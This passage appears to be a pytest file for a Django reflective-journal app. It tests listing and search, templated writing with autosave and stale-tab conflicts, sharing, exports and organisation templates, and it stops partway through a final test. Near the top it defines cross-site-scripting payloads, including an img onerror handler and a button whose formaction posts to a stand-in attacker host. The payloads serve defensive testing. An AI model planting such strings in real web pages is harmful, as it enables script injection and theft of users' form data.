"""The journal pages: list and search, writing with a template (and autosave), editing with a
second tab open, deleting, sharing, exports, and an organisation's own templates."""

from __future__ import annotations

import html
import io
import re
import zipfile
from datetime import UTC, datetime, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from journals.models import JournalEntry, ReflectiveTemplate, SharedLearning
from journals.services import learning_pseudonym, read_entry
from rp_portal.documents.models import DocumentBuild
from tests.journals.support import (
    GIBBS,
    THREE_QUESTIONS,
    attend,
    body,
    content_bytes,
    htmx_swaps,
    past_session,
    pdf_text,
    write,
)

HOSTILE = '<script>alert("owned")</script><img src=x onerror="steal()">'
ESCAPED = "&lt;script&gt;alert(&quot;owned&quot;)&lt;/script&gt;"
HOSTILE_TAG = "<script>alert(1)</script>"  # a tag is at most 40 characters
SMUGGLED_BUTTON = '<button formaction="https://evil.example.test/collect">Save</button>'


@pytest.fixture
def author(client, world):
    client.force_login(world.practitioner)
    return world.practitioner


def _days_ago(n: int) -> datetime:
    return timezone.now() - timedelta(days=n)


def _form(key=THREE_QUESTIONS, **fields) -> dict:
    sections = {"builtin:free": 1, THREE_QUESTIONS: 3, GIBBS: 6}.get(key, 2)
    data = {"template_key": key, "title": "", "tags": ""}
    data.update({f"section_{i}": "" for i in range(sections)})
    data.update(fields)
    return data


def _messages(response) -> list[str]:
    return [str(m) for m in response.context["messages"]] if response.context else []


def _titles(response) -> list[str]:
    return [read_entry(entry).title for entry, _text in response.context["journal"].page]


# --- The list --------------------------------------------------------------------------------


def test_the_journal_lists_the_authors_entries_newest_first(client, author, world):
    write(author, title="Oldest", created_at=_days_ago(3))
    write(author, title="Newest", created_at=_days_ago(1))
    write(author, title="Middle", created_at=_days_ago(2))
    write(world.facilitator, title="Someone else's")
    response = client.get(reverse("journals:list"))
    assert response.status_code == 200
    assert _titles(response) == ["Newest", "Middle", "Oldest"]
    page = body(response)
    assert page.index("Newest") < page.index("Middle") < page.index("Oldest")
    assert "Someone else" not in page


def test_the_journal_shows_twenty_entries_a_page(client, author):
    for n in range(25):
        write(author, title=f"Entry {n:02d}", created_at=_days_ago(30 - n))
    first = client.get(reverse("journals:list"))
    second = client.get(reverse("journals:list"), {"page": 2})
    assert len(_titles(first)) == 20
    assert _titles(first)[0] == "Entry 24"
    assert _titles(second) == [f"Entry {n:02d}" for n in range(4, -1, -1)]
    assert "Page 1 of 2" in body(first)
    assert "page=2" in body(first)


def _list_lines(response) -> list[str]:
    items = re.findall(r'<a class="list-group-item[^"]*"(.*?)</a>', body(response), re.S)
    texts = (re.sub(r"<[^>]+>", " ", item.split(">", 1)[1]) for item in items)
    return [html.unescape(" ".join(text.split())) for text in texts]


def test_each_line_of_the_list_shows_the_entry_in_the_authors_time_zone(client, author, world):
    session = past_session(world.group, title="Endings circle")
    attend(session, author)
    # 23:30 in UTC on 30 June is half past midnight on 1 July in London (summer time).
    draft = write(author, title="", tags=["endings", "visits"], key=GIBBS, session=session,
                  finished=False, created_at=datetime(2026, 6, 30, 23, 30, tzinfo=UTC))  # fmt: skip
    finished = write(author, title="Supervision", created_at=datetime(2026, 6, 1, 9, tzinfo=UTC))
    author.time_zone = "Europe/London"
    author.save(update_fields=["time_zone"])

    response = client.get(reverse("journals:list"))

    assert _list_lines(response) == [
        "(untitled) draft 1 Jul 2026 · Gibbs' reflective cycle · Endings circle · #endings · #visits",
        "Supervision 1 Jun 2026 · Free writing",
    ]
    links = re.findall(r'<a class="list-group-item[^"]*" href="([^"]+)"', body(response))
    assert links == [f"/journal/{draft.pk}/", f"/journal/{finished.pk}/"]


def test_the_journal_filters_by_tag(client, author):
    write(author, title="Tagged", tags=["endings", "visits"])
    write(author, title="Other tag", tags=["visits"])
    write(author, title="No tags")
    response = client.get(reverse("journals:list"), {"tag": "endings"})
    assert response.status_code == 200
    assert _titles(response) == ["Tagged"]
    assert "1 entry found." in body(response)


def test_the_tag_links_on_an_entry_lead_to_the_entries_with_that_tag(client, author):
    entry = write(author, title="Tagged", tags=["endings"])
    write(author, title="Untagged")
    detail = body(client.get(reverse("journals:entry", args=[entry.pk])))
    link = re.search(r'href="(/journal/\?tag=[^"]+)"', detail).group(1)
    assert _titles(client.get(link.replace("&amp;", "&"))) == ["Tagged"]


def test_the_journal_filters_by_template(client, author):
    write(author, title="With Gibbs", key=GIBBS)
    write(author, title="Free")
    response = client.get(reverse("journals:list"), {"template": GIBBS})
    assert _titles(response) == ["With Gibbs"]


def test_the_journal_filters_by_dates(client, author):
    write(author, title="Last month", created_at=_days_ago(30))
    write(author, title="Last week", created_at=_days_ago(7))
    write(author, title="Today")
    since = (timezone.localdate() - timedelta(days=10)).isoformat()
    until = (timezone.localdate() - timedelta(days=1)).isoformat()
    response = client.get(reverse("journals:list"), {"date_from": since, "date_to": until})
    assert _titles(response) == ["Last week"]


def test_the_journal_filters_by_session(client, author, world):
    """The issue asks for a session filter alongside tag, template and dates."""
    session = past_session(world.group)
    attend(session, author)
    write(author, title="About the session", session=session)
    write(author, title="Not linked")
    response = client.get(reverse("journals:list"), {"session": session.pk})
    assert _titles(response) == ["About the session"]


def test_search_finds_words_inside_sections_of_the_authors_entries_only(client, author, world):
    write(author, title="Plain title", key=THREE_QUESTIONS,
          texts=["Nothing here.", "The Transition plan felt rushed.", "Ask sooner."])  # fmt: skip
    write(author, title="Another", texts=["Supervision went well."])
    write(world.facilitator, texts=["transition too"])
    response = client.get(reverse("journals:list"), {"q": "transition"})
    assert _titles(response) == ["Plain title"]
    assert "1 entry found." in body(response)
    assert _titles(client.get(reverse("journals:list"), {"q": "nowhere"})) == []
    assert "Nothing matches." in body(client.get(reverse("journals:list"), {"q": "nowhere"}))


def test_search_finds_titles_and_tags_too(client, author):
    write(author, title="Endings with the Smiths")
    write(author, title="Tagged", tags=["smithfield"])
    write(author, title="Neither")
    assert sorted(_titles(client.get(reverse("journals:list"), {"q": "SMITH"}))) == [
        "Endings with the Smiths",
        "Tagged",
    ]


def test_an_empty_journal_explains_what_it_is_for(client, author):
    page = body(client.get(reverse("journals:list")))
    assert "What is the journal for?" in page
    assert "Write your first entry" in page


# --- Writing -------------------------------------------------------------------------------


def test_writing_starts_by_choosing_a_template(client, author, world):
    ReflectiveTemplate.objects.create(
        organisation=world.org, name="Riverside prep", sections=[{"title": "Case"}]
    )
    ReflectiveTemplate.objects.create(
        organisation=world.other_org, name="Elsewhere only", sections=[{"title": "X"}]
    )
    page = body(client.get(reverse("journals:new")))
    for name in ("Free writing", "What? So what? Now what?", "Gibbs&#x27; reflective cycle",
                 "Kolb&#x27;s learning cycle", "Driscoll&#x27;s model", "Riverside prep"):  # fmt: skip
        assert name in page
    assert "Elsewhere only" not in page


def test_each_template_gives_a_box_per_section_with_its_prompts(client, author):
    response = client.get(reverse("journals:new"), {"template": GIBBS})
    page = body(response)
    assert page.count("<textarea") == 6
    for title in ("Description", "Feelings", "Evaluation", "Analysis", "Conclusion",
                  "Action plan"):  # fmt: skip
        assert title in page
    assert "What were you thinking and feeling at the time?" in page


def test_a_template_of_another_organisation_is_not_offered(client, author, world):
    theirs = ReflectiveTemplate.objects.create(
        organisation=world.other_org, name="Elsewhere only", sections=[{"title": "X"}]
    )
    response = client.get(reverse("journals:new"), {"template": f"org:{theirs.pk}"})
    assert response.status_code == 200
    assert "How would you like to reflect?" in body(response)  # back to the chooser
    response = client.post(reverse("journals:new"), _form(f"org:{theirs.pk}", section_0="Hi"))
    assert "How would you like to reflect?" in body(response)
    assert not JournalEntry.objects.exists()


def test_the_link_from_the_post_session_message_preselects_the_session(client, author, world):
    session = past_session(world.group)
    attend(session, author)
    chooser = body(client.get(reverse("journals:new"), {"session": session.pk}))
    assert f"&amp;session={session.pk}" in chooser
    form = body(client.get(reverse("journals:new"), {"template": GIBBS, "session": session.pk}))
    assert re.search(rf'<option value="{session.pk}" selected>', form)


def test_only_sessions_the_author_attended_are_offered(client, author, world):
    attended = past_session(world.group, title="Came to this one")
    attend(attended, author)
    missed = past_session(world.group, title="Missed this one")
    attend(missed, author, attendance="absent")
    form = body(client.get(reverse("journals:new"), {"template": GIBBS, "session": missed.pk}))
    assert "Came to this one" in form
    assert "Missed this one" not in form
    response = client.post(
        reverse("journals:new"), _form(section_0="Words", session=missed.pk, action="finish")
    )
    assert response.status_code == 200
    assert "Select a valid choice." in body(response)
    assert not JournalEntry.objects.exists()


@pytest.mark.parametrize(("action", "status"), [("finish", "finished"), ("draft", "draft")])
def test_an_entry_is_saved_finished_or_as_a_draft(client, author, world, action, status):
    session = past_session(world.group)
    attend(session, author, attendance="late")
    response = client.post(
        reverse("journals:new"),
        _form(title="After the session", tags="endings, Visits", section_0="What happened.",
              section_2="Next time.", session=session.pk, action=action),
    )  # fmt: skip
    entry = JournalEntry.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("journals:entry", args=[entry.pk])
    assert (entry.status, entry.session_id, entry.author) == (status, session.pk, author)
    text = read_entry(entry)
    assert (text.title, text.tags) == ("After the session", ["endings", "visits"])
    assert [s["text"] for s in text.sections] == ["What happened.", "", "Next time."]
    followed = client.get(response["Location"])
    assert "Saved in your journal. Only you can read it." in _messages(followed)


def test_an_empty_entry_is_refused_with_a_message(client, author):
    response = client.post(reverse("journals:new"), _form(action="finish"))
    assert response.status_code == 200
    assert "Write something first: a title or a few words in any section." in body(response)
    assert not JournalEntry.objects.exists()


# --- Autosave ------------------------------------------------------------------------------


def _hidden(page: str, name: str) -> str:
    tag = re.search(rf'<input[^>]*name="{name}"[^>]*>', page).group(0)
    assert 'hx-swap-oob="true"' in tag
    return re.search(r'value="([^"]*)"', tag).group(1)


def test_the_first_autosave_creates_a_draft_and_hands_back_its_id_and_version(client, author):
    response = client.post(
        reverse("journals:autosave"), _form(title="Typing", section_0="First words")
    )
    assert response.status_code == 200
    entry = JournalEntry.objects.get()
    page = body(response)
    assert (_hidden(page, "entry_id"), _hidden(page, "version")) == (str(entry.pk), "1")
    assert "Draft saved at" in page
    assert entry.status == "draft"
    assert read_entry(entry).sections[0]["text"] == "First words"


def test_a_later_autosave_updates_the_same_draft(client, author):
    client.post(reverse("journals:autosave"), _form(title="Typing", section_0="First"))
    entry = JournalEntry.objects.get()
    response = client.post(
        reverse("journals:autosave"),
        _form(title="Typing", section_0="First and more", entry_id=entry.pk, version=1),
    )
    assert response.status_code == 200
    entry.refresh_from_db()
    assert entry.version == 2
    assert _hidden(body(response), "version") == "2"
    assert read_entry(entry).sections[0]["text"] == "First and more"
    assert JournalEntry.objects.count() == 1


def test_an_autosave_from_an_older_tab_is_refused_and_does_not_overwrite(client, author):
    client.post(reverse("journals:autosave"), _form(title="Tab one", section_0="One"))
    entry = JournalEntry.objects.get()
    saved = _form(title="Tab one", section_0="One, later", entry_id=entry.pk, version=1)
    assert client.post(reverse("journals:autosave"), saved).status_code == 200
    older = _form(title="Tab two", section_0="Two", entry_id=entry.pk, version=1)
    response = client.post(reverse("journals:autosave"), older)
    assert response.status_code in {200, 409}
    assert htmx_swaps(client, response)  # the warning reaches the page
    assert "changed in another tab" in body(response)
    assert 'name="entry_id"' not in body(response)  # the older tab is not handed a new version
    entry.refresh_from_db()
    assert (read_entry(entry).title, entry.version) == ("Tab one", 2)


def test_finishing_a_new_entry_after_an_autosave_keeps_one_entry(client, author):
    """The new-entry form autosaves (creating a draft) and is then submitted to the new-entry
    URL with the draft's id and version: the draft becomes the finished entry, not a copy."""
    data = _form(title="Typing", section_0="Words")
    first = client.post(reverse("journals:autosave"), data)
    entry_id, version = _hidden(body(first), "entry_id"), _hidden(body(first), "version")
    client.post(
        reverse("journals:new"),
        {**data, "entry_id": entry_id, "version": version, "section_0": "Words, done",
         "action": "finish"},
    )  # fmt: skip
    assert JournalEntry.objects.count() == 1
    entry = JournalEntry.objects.get()
    assert entry.status == "finished"
    assert read_entry(entry).sections[0]["text"] == "Words, done"


def test_the_new_entry_form_cannot_continue_someone_elses_entry(client, author, world):
    theirs = write(world.facilitator, title="Theirs")
    response = client.post(
        reverse("journals:new"),
        _form(title="Mine now", section_0="x", entry_id=theirs.pk, version=1, action="finish"),
    )
    assert response.status_code == 404
    assert JournalEntry.objects.count() == 1
    assert read_entry(JournalEntry.objects.get(pk=theirs.pk)).title == "Theirs"


def test_autosave_refuses_someone_elses_entry(client, author, world):
    theirs = write(world.facilitator, title="Theirs")
    response = client.post(
        reverse("journals:autosave"), _form(title="Mine now", entry_id=theirs.pk, version=1)
    )
    assert response.status_code == 404
    assert read_entry(JournalEntry.objects.get(pk=theirs.pk)).title == "Theirs"


def test_autosave_of_an_out_of_date_form_asks_for_a_reload(client, author):
    response = client.post(reverse("journals:autosave"), {"title": "No template"})
    assert response.status_code in {200, 400}
    assert htmx_swaps(client, response)
    assert "This form is out of date. Reload the page." in body(response)
    assert not JournalEntry.objects.exists()


def test_autosave_of_nothing_saves_nothing(client, author):
    response = client.post(reverse("journals:autosave"), _form())
    assert response.status_code in {200, 422}
    assert htmx_swaps(client, response)
    assert "Write something first" in body(response)
    assert not JournalEntry.objects.exists()


def test_autosave_needs_a_post(client, author):
    assert client.get(reverse("journals:autosave")).status_code == 405


# --- Editing and deleting ------------------------------------------------------------------


def test_the_edit_form_starts_from_the_stored_text(client, author):
    entry = write(author, title="Stored", tags=["one", "two"], key=THREE_QUESTIONS,
                  texts=["A", "B", "C"])  # fmt: skip
    response = client.get(reverse("journals:edit", args=[entry.pk]))
    form = response.context["form"]
    assert form.initial["title"] == "Stored"
    assert form.initial["tags"] == "one, two"
    assert [form.initial[f"section_{i}"] for i in range(3)] == ["A", "B", "C"]
    assert form.initial["version"] == 1


def test_an_edit_saves_a_new_version(client, author):
    entry = write(author, title="Before", finished=False)
    response = client.post(
        reverse("journals:edit", args=[entry.pk]),
        {"title": "After", "section_0": "New", "version": 1, "action": "finish"},
    )
    assert response.status_code == 302
    entry.refresh_from_db()
    assert (read_entry(entry).title, entry.version, entry.status) == ("After", 2, "finished")


def test_an_edit_from_a_stale_tab_is_refused_and_keeps_both_texts(client, author):
    entry = write(author, title="Before")
    url = reverse("journals:edit", args=[entry.pk])
    client.post(url, {"title": "Tab one", "section_0": "One", "version": 1, "action": "draft"})
    response = client.post(url, {"title": "Tab two", "section_0": "Typed in tab two", "version": 1})
    assert response.status_code == 200
    page = body(response)
    assert "This entry was changed in another tab or on another device at" in page
    assert "Your changes here were NOT saved" in page
    assert "Typed in tab two" in page  # nothing typed is lost: it is still in the form
    entry.refresh_from_db()
    assert (read_entry(entry).title, entry.version) == ("Tab one", 2)


def test_the_author_deletes_an_entry(client, author):
    entry = write(author)
    assert client.get(reverse("journals:delete", args=[entry.pk])).status_code == 405
    response = client.post(reverse("journals:delete", args=[entry.pk]), follow=True)
    assert response.redirect_chain[-1][0] == reverse("journals:list")
    assert "The entry is deleted." in _messages(response)
    assert not JournalEntry.objects.exists()


def test_nobody_else_can_edit_or_delete_an_entry(client, world):
    entry = write(world.practitioner, title="Mine")
    client.force_login(world.facilitator)
    assert client.post(reverse("journals:delete", args=[entry.pk])).status_code == 404
    response = client.post(
        reverse("journals:edit", args=[entry.pk]), {"title": "Theirs", "version": 1}
    )
    assert response.status_code == 404
    assert read_entry(JournalEntry.objects.get(pk=entry.pk)).title == "Mine"


# --- Sharing -------------------------------------------------------------------------------


def test_the_author_shares_a_learning_point_with_their_group(client, author, world):
    entry = write(author)
    response = client.post(
        reverse("journals:share", args=[entry.pk]),
        {"group": world.group.pk, "text": "Endings need a plan."},
        follow=True,
    )
    assert any(
        m.startswith("Shared with the group, without your name.") for m in _messages(response)
    )
    item = SharedLearning.objects.get()
    assert (item.group, item.text) == (world.group, "Endings need a plan.")


@pytest.mark.parametrize("group", ["missing", "not a member"])
def test_sharing_with_a_group_the_author_is_not_in_is_refused(client, author, world, group):
    entry = write(author)
    group_id = world.other_group.pk if group == "not a member" else 999_999
    response = client.post(
        reverse("journals:share", args=[entry.pk]),
        {"group": group_id, "text": "A point"},
        follow=True,
    )
    assert response.redirect_chain[-1][0] == reverse("journals:entry", args=[entry.pk])
    assert any("Select a valid choice" in m for m in _messages(response))
    assert not SharedLearning.objects.exists()


def test_a_long_learning_point_is_refused_with_a_message(client, author, world):
    entry = write(author)
    response = client.post(
        reverse("journals:share", args=[entry.pk]),
        {"group": world.group.pk, "text": "x" * 1001},
        follow=True,
    )
    assert any("at most 1000 characters" in m for m in _messages(response))
    assert not SharedLearning.objects.exists()


def test_the_author_withdraws_a_point_and_others_cannot(client, author, world):
    item = SharedLearning.objects.create(
        group=world.group,
        text="A point",
        author_pseudonym=learning_pseudonym(author, world.group.pk),
    )
    client.force_login(world.facilitator)
    response = client.post(reverse("journals:withdraw", args=[item.pk]), follow=True)
    assert "You can only withdraw points you shared." in _messages(response)
    assert SharedLearning.objects.filter(pk=item.pk).exists()
    client.force_login(author)
    response = client.post(reverse("journals:withdraw", args=[item.pk]), follow=True)
    assert "Your shared point is withdrawn." in _messages(response)
    assert not SharedLearning.objects.exists()


def test_the_facilitator_hides_a_point_and_a_member_cannot(client, author, world):
    item = SharedLearning.objects.create(
        group=world.group, text="Names a family", author_pseudonym="x"
    )
    assert client.post(reverse("journals:hide", args=[item.pk])).status_code == 403
    client.force_login(world.facilitator)
    response = client.post(reverse("journals:hide", args=[item.pk]), follow=True)
    assert "The point is hidden from the group." in _messages(response)
    item.refresh_from_db()
    assert item.hidden_by == world.facilitator
    client.force_login(author)
    assert "Names a family" not in body(
        client.get(reverse("journals:group_learning", args=[world.group.pk]))
    )


# --- Exports -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"scope": "range", "date_from": "2025-01-01", "fmt": "pdf"}, "Give both dates."),
        ({"scope": "range", "date_from": "2025-02-01", "date_to": "2025-01-01", "fmt": "pdf"},
         "The first date is after the second."),
        ({"scope": "selection", "fmt": "pdf"}, "Tick at least one entry."),
        ({"scope": "everything", "fmt": "pdf"}, "Select a valid choice."),
    ],
    ids=["one date", "dates reversed", "nothing ticked", "unknown scope"],
)  # fmt: skip
def test_the_export_form_explains_what_is_missing(client, author, data, message):
    write(author)
    response = client.post(reverse("journals:export"), data)
    assert response.status_code == 200
    assert message in body(response)
    assert not DocumentBuild.objects.exists()


def test_a_selection_cannot_include_someone_elses_entry(client, author, world):
    write(author)
    theirs = write(world.facilitator)
    response = client.post(
        reverse("journals:export"), {"scope": "selection", "entries": [theirs.pk], "fmt": "pdf"}
    )
    assert "Select a valid choice." in body(response)
    assert not DocumentBuild.objects.exists()


def _export(client, capture, data) -> DocumentBuild:
    with capture(execute=True):
        response = client.post(reverse("journals:export"), data)
    assert response.status_code == 302
    build = DocumentBuild.objects.get(pk=int(response["Location"].strip("/").split("/")[-1]))
    assert build.status == "done", build.error
    return build


def test_a_pdf_export_builds_and_downloads(
    client, author, media, django_capture_on_commit_callbacks
):
    write(author, title="First reflection", texts=["Alpha words"], created_at=_days_ago(2))
    write(author, title="Second reflection", texts=["Beta words"], created_at=_days_ago(1))
    build = _export(client, django_capture_on_commit_callbacks, {"scope": "all", "fmt": "pdf"})
    status = client.get(reverse("documents:status", args=[build.pk]))
    assert status.status_code == 200
    download = client.get(reverse("documents:download", args=[build.pk]))
    assert download.status_code == 200
    assert download["Content-Type"] == "application/pdf"
    text = pdf_text(content_bytes(download))
    assert "2 entries" in text
    assert text.index("First reflection") < text.index("Second reflection")
    assert "Alpha words" in text
    assert "Beta words" in text


def test_a_selection_exports_only_the_ticked_entries(
    client, author, media, django_capture_on_commit_callbacks
):
    chosen = write(author, title="Chosen one")
    write(author, title="Left out")
    build = _export(
        client,
        django_capture_on_commit_callbacks,
        {"scope": "selection", "entries": [chosen.pk], "fmt": "pdf"},
    )
    text = pdf_text(content_bytes(client.get(reverse("documents:download", args=[build.pk]))))
    assert "Chosen one" in text
    assert "Left out" not in text


def test_a_date_range_exports_only_entries_in_it(
    client, author, media, django_capture_on_commit_callbacks
):
    write(author, title="Inside range", created_at=_days_ago(5))
    write(author, title="Too old", created_at=_days_ago(40))
    build = _export(
        client,
        django_capture_on_commit_callbacks,
        {"scope": "range", "fmt": "pdf",
         "date_from": (timezone.localdate() - timedelta(days=10)).isoformat(),
         "date_to": timezone.localdate().isoformat()},
    )  # fmt: skip
    text = pdf_text(content_bytes(client.get(reverse("documents:download", args=[build.pk]))))
    assert "Inside range" in text
    assert "Too old" not in text


def test_a_markdown_export_is_a_zip_with_one_file_per_entry(
    client, author, world, media, django_capture_on_commit_callbacks
):
    write(author, title="Gibbs entry", key=GIBBS, texts=[f"Stage {n}" for n in range(6)],
          tags=["endings"])  # fmt: skip
    write(author, title="Free entry", texts=["Just writing"])
    write(author, title="", texts=["Untitled words"])
    write(world.facilitator, title="Not mine")
    build = _export(client, django_capture_on_commit_callbacks, {"scope": "all", "fmt": "markdown"})
    download = client.get(reverse("documents:download", args=[build.pk]))
    assert download["Content-Type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(content_bytes(download)))
    names = archive.namelist()
    assert len(names) == 3
    assert all(name.endswith(".md") for name in names)
    texts = {name: archive.read(name).decode() for name in names}
    gibbs = next(t for t in texts.values() if t.startswith("# Gibbs entry"))
    assert "## Feelings\n\nStage 1" in gibbs
    assert "- Tags: endings" in gibbs
    assert any(t.startswith("# (untitled)") for t in texts.values())
    assert not any("Not mine" in t for t in texts.values())


def test_the_export_page_lists_only_the_authors_entries(client, author, world):
    write(author, title="Mine to export")
    write(world.facilitator, title="Not mine")
    page = body(client.get(reverse("journals:export")))
    assert "Mine to export" in page
    assert "Not mine" not in page


# --- Reflective account --------------------------------------------------------------------


def test_a_reflective_account_needs_an_entry_linked_to_a_session(client, author):
    entry = write(author)
    response = client.post(
        reverse("journals:reflective_account", args=[entry.pk]),
        {"code": "swe", "themes": ["swe:cpd"]},
        follow=True,
    )
    assert "A reflective account is for an entry linked to a session you attended." in _messages(
        response
    )
    assert not DocumentBuild.objects.exists()
    assert "Reflective account for CPD" not in body(
        client.get(reverse("journals:entry", args=[entry.pk]))
    )


def test_a_reflective_account_needs_a_theme_of_the_chosen_code(client, author, world):
    session = past_session(world.group)
    attend(session, author)
    entry = write(author, session=session)
    response = client.post(
        reverse("journals:reflective_account", args=[entry.pk]),
        {"code": "nmc", "themes": ["swe:cpd"]},
        follow=True,
    )
    assert "Tick at least one theme of the code you chose." in _messages(response)
    assert not DocumentBuild.objects.exists()


def test_a_reflective_account_lays_out_the_session_and_the_reflection(
    client, author, world, media, django_capture_on_commit_callbacks
):
    session = past_session(world.group)
    attend(session, author)
    entry = write(author, key=THREE_QUESTIONS, session=session,
                  texts=["We met the family.", "Silence helped.", "I will pause more."])  # fmt: skip
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("journals:reflective_account", args=[entry.pk]),
            {"code": "nmc", "themes": ["nmc:people", "nmc:effective", "swe:cpd"]},
        )
    build = DocumentBuild.objects.get()
    assert response["Location"] == reverse("documents:status", args=[build.pk])
    assert build.inputs == {
        "entry": entry.pk,
        "code": "nmc",
        "themes": ["nmc:effective", "nmc:people"],
    }
    text = pdf_text(content_bytes(client.get(reverse("documents:download", args=[build.pk]))))
    for expected in ("Reflective account", "Team RP", "1.5 hours", "We met the family.",
                     "Silence helped.", "I will pause more.", "The NMC Code", "Prioritise people",
                     "Practise effectively"):  # fmt: skip
        assert expected in text
    assert (
        text.index("What happened")
        < text.index("We met the family.")
        < text.index("What I learned")
    )
    assert (
        text.index("What I learned") < text.index("Silence helped.") < text.index("How my practice")
    )
    assert "Maintain my continuing professional development" not in text


# --- An organisation's own templates -------------------------------------------------------


def _template_data(**changes) -> dict:
    return {
        "name": "Supervision prep",
        "description": "Before supervision",
        "sections": "The case: Who, in initials? | What happened?\nMy worry: What keeps you up?",
        **changes,
    }


def test_an_org_admin_adds_a_template_that_members_can_write_with(client, world):
    client.force_login(world.admin)
    url = reverse("journals:templates", args=[world.org.pk])
    assert client.get(url).status_code == 200
    response = client.post(url, _template_data())
    assert response.status_code == 302
    template = ReflectiveTemplate.objects.get()
    assert template.sections == [
        {"title": "The case", "prompts": ["Who, in initials?", "What happened?"]},
        {"title": "My worry", "prompts": ["What keeps you up?"]},
    ]
    client.force_login(world.practitioner)
    assert "Supervision prep" in body(client.get(reverse("journals:new")))
    client.force_login(world.outsider)
    assert "Supervision prep" not in body(client.get(reverse("journals:new")))


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"sections": ": no title"}, "Each line needs a section title before the colon."),
        ({"sections": "\n".join(f"S{n}: p" for n in range(11))},
         "A template has between 1 and 10 sections."),
        ({"name": ""}, "This field is required."),
    ],
)  # fmt: skip
def test_a_bad_template_is_refused_with_a_message(client, world, changes, message):
    client.force_login(world.admin)
    response = client.post(
        reverse("journals:templates", args=[world.org.pk]), _template_data(**changes)
    )
    assert response.status_code == 200
    assert message in body(response)
    assert not ReflectiveTemplate.objects.exists()


def test_a_template_name_is_used_once_per_organisation(client, world):
    client.force_login(world.admin)
    url = reverse("journals:templates", args=[world.org.pk])
    client.post(url, _template_data())
    response = client.post(url, _template_data(sections="Other: x"))
    assert "There is already a template with this name." in body(response)
    assert ReflectiveTemplate.objects.count() == 1
    other = ReflectiveTemplate.objects.create(
        organisation=world.org, name="Second", sections=[{"title": "A"}]
    )
    response = client.post(
        reverse("journals:template_edit", args=[world.org.pk, other.pk]), _template_data()
    )
    assert "There is already a template with this name." in body(response)
    other.refresh_from_db()
    assert other.name == "Second"


def test_an_org_admin_edits_and_retires_a_template(client, world):
    template = ReflectiveTemplate.objects.create(
        organisation=world.org, name="Old", sections=[{"title": "A"}]
    )
    client.force_login(world.admin)
    url = reverse("journals:template_edit", args=[world.org.pk, template.pk])
    assert "A:" in body(client.get(url))
    response = client.post(url, _template_data(name="New name"))  # is_active not ticked
    assert response.status_code == 302
    template.refresh_from_db()
    assert (template.name, template.is_active, len(template.sections)) == ("New name", False, 2)
    client.force_login(world.practitioner)
    assert "New name" not in body(client.get(reverse("journals:new")))


@pytest.mark.parametrize(
    ("role", "status"),
    [("practitioner", 403), ("manager", 403), ("facilitator", 403), ("outsider", 404)],
)
def test_only_the_organisations_admins_manage_its_templates(client, world, role, status):
    template = ReflectiveTemplate.objects.create(
        organisation=world.org, name="T", sections=[{"title": "A"}]
    )
    client.force_login(getattr(world, role))
    for url in (
        reverse("journals:templates", args=[world.org.pk]),
        reverse("journals:template_edit", args=[world.org.pk, template.pk]),
    ):
        assert client.get(url).status_code == status
        assert client.post(url, _template_data(name="Taken")).status_code == status
    template.refresh_from_db()
    assert template.name == "T"
    assert ReflectiveTemplate.objects.count() == 1


def test_an_admin_cannot_reach_another_organisations_template_through_their_own(client, world):
    theirs = ReflectiveTemplate.objects.create(
        organisation=world.other_org, name="Theirs", sections=[{"title": "A"}]
    )
    client.force_login(world.admin)
    url = reverse("journals:template_edit", args=[world.org.pk, theirs.pk])
    assert client.get(url).status_code == 404
    assert client.post(url, _template_data(name="Mine now")).status_code == 404
    theirs.refresh_from_db()
    assert theirs.name == "Theirs"


def test_entries_keep_their_sections_after_the_template_changes(client, world):
    template = ReflectiveTemplate.objects.create(
        organisation=world.org,
        name="Prep",
        sections=[{"title": "The case", "prompts": ["Initials"]}, {"title": "My worry"}],
    )
    client.force_login(world.practitioner)
    client.post(
        reverse("journals:new"),
        _form(f"org:{template.pk}", title="With prep", section_0="Case words",
              section_1="Worry words", action="finish"),
    )  # fmt: skip
    entry = JournalEntry.objects.get()
    client.force_login(world.admin)
    client.post(
        reverse("journals:template_edit", args=[world.org.pk, template.pk]),
        {"name": "Prep", "sections": "Totally: new\nDifferent: sections\nThree: of them",
         "is_active": "on"},
    )  # fmt: skip
    template.refresh_from_db()
    assert len(template.sections) == 3

    client.force_login(world.practitioner)
    detail = body(client.get(reverse("journals:entry", args=[entry.pk])))
    assert "The case" in detail
    assert "Case words" in detail
    assert "My worry" in detail
    assert "Worry words" in detail
    assert "Totally" not in detail
    edit = client.get(reverse("journals:edit", args=[entry.pk]))
    assert body(edit).count("<textarea") == 2
    response = client.post(
        reverse("journals:edit", args=[entry.pk]),
        {"title": "With prep", "section_0": "Case words, edited", "section_1": "Worry words",
         "version": 1, "action": "finish"},
    )  # fmt: skip
    assert response.status_code == 302
    entry.refresh_from_db()
    assert [(s["title"], s["text"]) for s in read_entry(entry).sections] == [
        ("The case", "Case words, edited"),
        ("My worry", "Worry words"),
    ]


def test_autosave_of_an_entry_keeps_its_sections_after_the_template_changes(client, world):
    template = ReflectiveTemplate.objects.create(
        organisation=world.org, name="Prep", sections=[{"title": "The case"}, {"title": "My worry"}]
    )
    client.force_login(world.practitioner)
    client.post(
        reverse("journals:new"),
        _form(
            f"org:{template.pk}", section_0="Case words", section_1="Worry words", action="finish"
        ),
    )
    entry = JournalEntry.objects.get()
    ReflectiveTemplate.objects.filter(pk=template.pk).update(
        sections=[{"title": "Totally"}, {"title": "Different"}, {"title": "Now"}]
    )
    # The edit page shows the two sections as written; its autosave sends them back.
    response = client.post(
        reverse("journals:autosave"),
        {"entry_id": entry.pk, "version": 1, "title": "", "tags": "",
         "section_0": "Case words, more", "section_1": "Worry words"},
    )  # fmt: skip
    assert response.status_code == 200
    entry.refresh_from_db()
    assert [(s["title"], s["text"]) for s in read_entry(entry).sections] == [
        ("The case", "Case words, more"),
        ("My worry", "Worry words"),
    ]


def test_autosave_of_an_entry_written_with_a_retired_template_still_saves(client, world):
    template = ReflectiveTemplate.objects.create(
        organisation=world.org, name="Prep", sections=[{"title": "The case"}, {"title": "My worry"}]
    )
    client.force_login(world.practitioner)
    client.post(
        reverse("journals:new"),
        _form(
            f"org:{template.pk}", section_0="Case words", section_1="Worry words", action="finish"
        ),
    )
    entry = JournalEntry.objects.get()
